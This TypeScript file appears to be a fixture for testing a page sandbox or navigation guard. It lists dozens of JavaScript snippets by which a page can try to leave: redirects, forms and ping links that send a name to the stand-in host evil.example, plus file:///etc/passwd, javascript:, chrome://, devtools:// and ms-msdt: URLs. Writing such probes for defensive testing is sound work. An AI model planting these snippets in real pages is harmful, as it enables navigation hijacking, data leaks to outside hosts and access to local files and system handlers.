/** What a page can try to leave with: source that runs in the page itself. `evil` and `file` stand in for the addresses. */
const evil = 'https://evil.example/?name=Ada';
const file = 'file:///etc/passwd';

const to = (address: string): string => `location.href = ${JSON.stringify(address)}`;
const link = (attributes: string, how = 'click()'): string =>
  `document.body.insertAdjacentElement('beforeend', Object.assign(document.createElement('a'), { ${attributes} })).${how}`;
const element = (tag: string, properties: string): string =>
  `document.body.append(Object.assign(document.createElement('${tag}'), { ${properties} }))`;
const form = (properties: string): string =>
  `const f = Object.assign(document.createElement('form'), { ${properties} }); document.body.append(f); f.submit()`;

/** Name → source. */
export const tricks: ReadonlyMap<string, string> = new Map([
  ['another site', to(evil)],
  ['another site, assigned', `location.assign('${evil}')`],
  ['another site, replaced', `location.replace('${evil}')`],
  ['another site, from the top', `window.top.location = '${evil}'`],
  ['another site by the navigation interface', `navigation.navigate('${evil}')`],
  ['another site, unencrypted', to('http://evil.example/')],
  ['a file', to(file)],
  ['a share', to('file://server/share/x.html')],
  ['a page in its own address', to('data:text/html,<script>1</script>')],
  ['a page made here', `location.href = URL.createObjectURL(new Blob(['<p>x'], { type: 'text/html' }))`],
  ['script as an address', to('javascript:document.body.append("ran")')],
  ['an empty page', to('about:blank')],
  ['a page of the browser', to('chrome://settings')],
  ['the tools', to('devtools://devtools/bundled/inspector.html')],
  ['the source of a page', to(`view-source:${evil}`)],
  ['a letter', to('mailto:x@evil.example')],
  ['a program of the system', to('ms-msdt:/id')],
  ['a stored file', to('filesystem:https://evil.example/x')],
  ['another file of the bundle', to('./page.js')],
  ['our page with a question', to('./index.html?name=Ada')],
  ['another host of our scheme', `location.href = location.protocol + '//evil/index.html'`],
  ['our host with a user', `location.href = location.protocol + '//ada@' + location.host + '/index.html'`],
  ['our host with a port', `location.href = location.protocol + '//' + location.hostname + ':8443/index.html'`],
  ['a link', link(`href: '${evil}'`)],
  ['a link to a new window', link(`href: '${evil}', target: '_blank'`)],
  ['a link with an opener', link(`href: '${evil}', target: '_blank', rel: 'opener'`)],
  ['a link to a named window', link(`href: '${evil}', target: 'other'`)],
  ['a link that saves', link(`href: '${evil}', download: 'x.html'`)],
  ['a link that tells', link(`href: '#', ping: '${evil}'`)],
  ['a form', form(`action: '${evil}'`)],
  ['a form that posts', form(`action: '${evil}', method: 'post'`)],
  ['a form to a new window', form(`action: '${evil}', target: '_blank'`)],
  ['a form with script', form(`action: 'javascript:document.body.append("ran")'`)],
  [
    'a page that refreshes itself',
    `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${evil}' }))`,
  ],
  [
    'another base',
    `document.head.append(Object.assign(document.createElement('base'), { href: '${evil}' })); ${link("href: 'x'")}`,
  ],
  ['a frame', element('iframe', `src: '${evil}'`)],
  [
    'a frame with a page in it',
    element(
      'iframe',
      `srcdoc: '<script>top.location="${evil}"</script><meta http-equiv=refresh content="0;url=${evil}">'`,
    ),
  ],
  ['an embedded page', element('embed', `src: '${evil}', type: 'text/html'`)],
  [
    'windows',
    `window.open('${evil}'); window.open('about:blank')?.document.write('x'); window.open('${file}', '_self')`,
  ],
  [
    'history',
    `history.pushState(null, '', './other.html'); history.go(-3); history.pushState(null, '', '?name=Ada'); location.reload()`,
  ],
]);
